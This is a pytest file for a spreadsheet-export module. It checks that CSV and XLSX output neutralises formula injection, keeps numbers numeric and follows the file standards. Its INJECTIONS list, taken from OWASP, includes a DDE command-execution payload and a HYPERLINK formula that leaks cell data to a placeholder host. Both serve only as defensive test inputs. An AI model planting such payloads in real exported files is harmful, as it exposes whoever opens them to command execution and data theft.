"""Files that leave the house: no formula in them, numbers still numbers, readable anywhere."""

import csv
import io
import zipfile
from xml.etree import ElementTree

import pytest

from workshops.lists.cells import cleaned, guarded, unguarded
from workshops.lists.writing import as_csv, as_xlsx

# OWASP, "CSV Injection": the characters a cell must not begin with, and attacks it shows.
INJECTIONS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1+1", "＋1", "－1", "＠1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"x")', " =1+1", "'=1+1", "''=1",
]  # fmt: skip
HARMLESS = ["Ann", "O'Neil", "'tis", "1/200 s", "a=b", "", "ñ"]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_might_be_a_formula_begins_with_an_apostrophe_and_comes_back(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text):
    assert unguarded(guarded(text)) == guarded(text) == text


def test_a_phone_number_survives_out_and_in():
    assert cleaned(guarded("+44 7700 900123")) == "+44 7700 900123"


def test_a_csv_file_is_of_the_standard_and_opens_with_its_accents():
    """RFC 4180: CRLF, quotation marks doubled; Unicode 23.8: the mark of UTF-8."""
    content = as_csv(["Name", "Figure"], [['Núñez, "Ana"\nx', -2.5], ["=1+1", 3], [None, None]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert b'\r\n"\'=1+1",3\r\n' in content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert rows == [["Name", "Figure"], ['Núñez, "Ana"\nx', "-2.5"], ["'=1+1", "3"], ["", ""]]


def test_no_cell_breaks_apart_for_a_reader_of_semicolons():
    """OWASP: a cell may smuggle in the delimiter of another country."""
    content = as_csv(["Name"], [["x;=1+1"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content), delimiter=";"))[1] == ["x;=1+1"]


def test_a_workbook_holds_texts_and_numbers_but_no_formula_and_no_link():
    """ECMA-376 part 1, 18.3.1.4 and 18.3.1.40: cells, and the f element of a formula."""
    content = as_xlsx(
        "Coast: [one]/*?", ["Name", "Figure"], [["=1+1", -2.5], ["http://example.org", 3]]
    )
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        names = book.namelist()
    cells = {cell.get("r"): cell for cell in sheet.iter(f"{MAIN}c")}
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    assert not [name for name in names if "externalLink" in name or name.endswith(".bin")]
    assert "".join(cells["A2"].itertext()) == "'=1+1"
    assert cells["A2"].get("t") == "inlineStr"
    assert (cells["B2"].get("t"), "".join(cells["B2"].itertext())) == (None, "-2.5")
